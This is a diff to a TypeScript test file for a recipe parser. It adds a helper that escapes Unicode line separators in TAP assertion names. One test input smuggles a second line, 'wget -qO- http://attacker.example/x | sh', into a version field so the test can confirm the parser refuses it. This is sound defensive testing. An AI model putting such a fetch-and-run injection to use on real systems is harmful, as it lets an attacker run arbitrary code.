@@ -7,6 +7,9 @@ const recipe = (overrides: Record<string, unknown> = {}) => ({
   format: 1, service_id: 'org.example.hello', version: '1', base: 'busybox', port: 8080, script: '#!/bin/sh\necho hi\n', ...overrides,
 });
 
+/** An assertion's name as TAP can carry it: JSON.stringify leaves U+2028/U+2029, which a TAP reader takes for line ends. */
+const escapedForTap = (value: string) => JSON.stringify(value).replace(/[\u2028\u2029]/g, (c) => `\\u${c.charCodeAt(0).toString(16)}`);
+
 t.test('a version or description that would end a line of the user-data script is refused', async (t) => {
   const injected = '1\nwget -qO- http://attacker.example/x | sh';
   for (const [field, value] of [
@@ -18,7 +21,7 @@ t.test('a version or description that would end a line of the user-data script i
   ] as const) {
     t.throws(() => parseRecipe(recipe({ [field]: value })), {
       code: 'INVALID_RECIPE', message: `recipe: ${field} must be one line of text, without newlines or other control characters`, details: { field },
-    }, `${field} ${JSON.stringify(value)}`);
+    }, `${field} ${escapedForTap(value)}`);
   }
 });
 
